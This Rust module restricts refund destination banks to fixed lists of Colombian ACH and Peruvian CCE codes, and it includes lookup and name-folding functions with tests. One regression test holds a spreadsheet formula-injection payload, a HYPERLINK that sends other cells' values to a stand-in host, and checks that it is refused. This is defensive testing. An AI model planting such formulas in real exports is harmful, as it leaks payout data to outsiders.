//! The banks a refund can be paid into: a closed list per country, so the `bank` a
//! shopper gives is a code the merchant's bank can route, never free text (review M4: the
//! free-text `bank` carried a spreadsheet formula into the payout file).
//!
//! - **Colombia**: the ACH Colombia / PSE entity codes (four digits: `1` and the
//!   Superintendencia Financiera's three-digit code), as payout providers publish them.
//!   Wallets (Nequi `1507`, Daviplata `1551`) are not here: they are the `wallet`
//!   destination.
//! - **Peru**: the entity codes of the CCE (Cámara de Compensación Electrónica), the first
//!   three digits of every CCI. Only codes confirmed in published lists are here; a CCI of
//!   an entity missing from the list is refused until it is added.
//!
//! A bank is given by its code or by one of its names, in any case and with or without
//! accents or punctuation (`"007"`/`"1007"`, `"Bancolombia"`, `"banco de bogotá"`), and is
//! always stored as its [`Bank`] (code and name).

use super::destination::Country;

/// One bank of the list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Bank {
    /// The routing code: ACH Colombia's four digits, or the CCI's first three (Peru).
    pub code: &'static str,
    /// The name the shopper and the merchant read.
    pub name: &'static str,
}

/// Colombia's banks, `(ACH code, name)`: also the options of the shopper's page.
pub const COLOMBIA: &[(&str, &str)] = &[
    ("1001", "Banco de Bogotá"),
    ("1002", "Banco Popular"),
    ("1006", "Banco Itaú"),
    ("1007", "Bancolombia"),
    ("1009", "Citibank"),
    ("1012", "Banco GNB Sudameris"),
    ("1013", "BBVA Colombia"),
    ("1019", "Scotiabank Colpatria"),
    ("1023", "Banco de Occidente"),
    ("1032", "Banco Caja Social"),
    ("1040", "Banco Agrario"),
    ("1051", "Davivienda"),
    ("1052", "Banco AV Villas"),
    ("1053", "Banco W"),
    ("1059", "Bancamía"),
    ("1060", "Banco Pichincha"),
    ("1061", "Bancoomeva"),
    ("1062", "Banco Falabella"),
    ("1063", "Banco Finandina"),
    ("1065", "Banco Santander"),
    ("1066", "Banco Cooperativo Coopcentral"),
    ("1067", "Mibanco"),
    ("1069", "Banco Serfinanza"),
    ("1070", "Lulo Bank"),
    ("1292", "Confiar Cooperativa Financiera"),
];

/// Peru's banks and cajas, `(CCE code, name)`: a CCI's first three digits.
pub const PERU: &[(&str, &str)] = &[
    ("002", "BCP"),
    ("003", "Interbank"),
    ("007", "Citibank"),
    ("009", "Scotiabank"),
    ("011", "BBVA"),
    ("018", "Banco de la Nación"),
    ("023", "Banco de Comercio"),
    ("035", "Banco Pichincha"),
    ("038", "BanBif"),
    ("049", "Mibanco"),
    ("053", "Banco GNB"),
    ("056", "Banco Santander"),
    ("803", "Caja Arequipa"),
];

/// Other names banks are known by, `(code, name)`, both countries (codes do not overlap:
/// four digits in Colombia, three in Peru).
const ALIASES: &[(&str, &str)] = &[
    ("1001", "Bogotá"),
    ("1002", "Popular"),
    ("1006", "Itaú"),
    ("1006", "Itaú Corpbanca"),
    ("1006", "Corpbanca"),
    ("1007", "Banco de Colombia"),
    ("1012", "GNB Sudameris"),
    ("1012", "Sudameris"),
    ("1013", "BBVA"),
    ("1019", "Colpatria"),
    ("1019", "Banco Colpatria"),
    ("1019", "Scotiabank"),
    ("1023", "Occidente"),
    ("1032", "Caja Social"),
    ("1032", "BCSC"),
    ("1040", "Banco Agrario de Colombia"),
    ("1051", "Banco Davivienda"),
    ("1052", "AV Villas"),
    ("1052", "AVVillas"),
    ("1059", "Banco Mundo Mujer Bancamía"),
    ("1060", "Pichincha"),
    ("1061", "Coomeva"),
    ("1062", "Falabella"),
    ("1063", "Finandina"),
    ("1065", "Santander"),
    ("1066", "Coopcentral"),
    ("1069", "Serfinanza"),
    ("1070", "Lulo"),
    ("1292", "Confiar"),
    ("002", "Banco de Crédito"),
    ("002", "Banco de Crédito del Perú"),
    ("003", "Banco Internacional del Perú"),
    ("007", "Citibank del Perú"),
    ("009", "Scotiabank Perú"),
    ("011", "BBVA Perú"),
    ("011", "BBVA Continental"),
    ("011", "Banco Continental"),
    ("018", "Banco de la Nación del Perú"),
    ("035", "Pichincha"),
    ("038", "Banco Interamericano de Finanzas"),
    ("053", "Banco GNB Perú"),
    ("056", "Santander"),
    ("803", "CMAC Arequipa"),
];

/// The list of `country`, `(code, name)`.
pub const fn of(country: Country) -> &'static [(&'static str, &'static str)] {
    match country {
        Country::Colombia => COLOMBIA,
        Country::Peru => PERU,
    }
}

/// Lower case, accents and punctuation dropped, spaces collapsed: how names are compared.
pub fn fold(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars().flat_map(char::to_lowercase) {
        let c = match c {
            'á' | 'à' | 'ä' | 'â' => 'a',
            'é' | 'è' | 'ë' | 'ê' => 'e',
            'í' | 'ì' | 'ï' | 'î' => 'i',
            'ó' | 'ò' | 'ö' | 'ô' => 'o',
            'ú' | 'ù' | 'ü' | 'û' => 'u',
            'ñ' => 'n',
            c if c.is_ascii_alphanumeric() => c,
            _ => ' ',
        };
        if c != ' ' || !(out.is_empty() || out.ends_with(' ')) {
            out.push(c);
        }
    }
    out.trim_end().to_owned()
}

/// The bank of `country` that `given` names: its code (in Colombia also the last three
/// digits), its name or another name it is known by.
pub fn find(country: Country, given: &str) -> Option<Bank> {
    let wanted = fold(given);
    let digits = wanted.replace(' ', "");
    let by_code = |code: &str| {
        code == digits
            || (country == Country::Colombia
                && digits.len() == 3
                && code.get(1..) == Some(digits.as_str()))
    };
    let list = of(country);
    let code = list
        .iter()
        .find(|(code, name)| by_code(code) || fold(name) == wanted)
        .map(|(code, _)| *code)
        .or_else(|| {
            ALIASES
                .iter()
                .find(|(code, alias)| fold(alias) == wanted && list.iter().any(|(c, _)| c == code))
                .map(|(code, _)| *code)
        })?;
    list.iter()
        .find(|(c, _)| *c == code)
        .map(|(code, name)| Bank { code, name })
}

/// The bank a CCI routes to (its first three digits), if it is on Peru's list.
pub fn of_cci(cci: &str) -> Option<Bank> {
    let code = cci.get(..3)?;
    PERU.iter()
        .find(|(c, _)| *c == code)
        .map(|(code, name)| Bank { code, name })
}

#[cfg(test)]
mod tests {
    use super::*;
    #[cfg(target_arch = "wasm32")]
    use wasm_bindgen_test::wasm_bindgen_test as test;

    #[test]
    fn banks_are_found_by_code_or_any_spelling_of_their_name() {
        let co = Country::Colombia;
        for given in ["1007", "007", "Bancolombia", "BANCOLOMBIA", " bancolombia "] {
            assert_eq!(find(co, given).map(|b| b.code), Some("1007"), "{given}");
        }
        assert_eq!(find(co, "Banco de Bogotá").map(|b| b.code), Some("1001"));
        assert_eq!(find(co, "banco de bogota").map(|b| b.code), Some("1001"));
        assert_eq!(find(co, "AV-Villas").map(|b| b.code), Some("1052"));
        let pe = Country::Peru;
        assert_eq!(find(pe, "bcp").map(|b| b.code), Some("002"));
        assert_eq!(
            find(pe, "Banco de Crédito del Perú").map(|b| b.code),
            Some("002")
        );
        assert_eq!(find(pe, "Banco de la Nacion").map(|b| b.code), Some("018"));
        assert_eq!(of_cci("00219300123456789012").map(|b| b.name), Some("BCP"));
        assert_eq!(of_cci("99919300123456789012"), None);
    }

    /// Regression (review M4): `bank` was free text, so it could carry a formula.
    #[test]
    fn anything_not_on_the_list_is_refused() {
        for given in [
            "+5+HYPERLINK(\"https://x.example/?\"&H3&K3,\"ver\")",
            "=1+1",
            "X",
            "Banco",
            "",
            "Nequi",
            "1507",
            "9999",
        ] {
            assert_eq!(find(Country::Colombia, given), None, "{given}");
            assert_eq!(find(Country::Peru, given), None, "{given}");
        }
    }

    #[test]
    fn codes_names_and_aliases_never_collide() {
        for (country, len) in [(Country::Colombia, 4), (Country::Peru, 3)] {
            let mut seen = std::collections::BTreeSet::new();
            for (code, name) in of(country) {
                assert!(
                    code.len() == len && code.bytes().all(|c| c.is_ascii_digit()),
                    "{code}"
                );
                let aliases = ALIASES.iter().filter(|(c, _)| c == code).map(|(_, a)| *a);
                for key in std::iter::once(*name).chain(aliases) {
                    assert!(seen.insert(fold(key)), "{key} twice in {country:?}");
                }
                let bank = Some(Bank { code, name });
                assert_eq!(find(country, code), bank);
                assert_eq!(find(country, name), bank);
            }
        }
        for (code, alias) in ALIASES {
            let home = [Country::Colombia, Country::Peru]
                .into_iter()
                .find(|c| of(*c).iter().any(|(k, _)| k == code));
            assert!(home.is_some(), "{alias}: {code} is on no list");
        }
    }
}
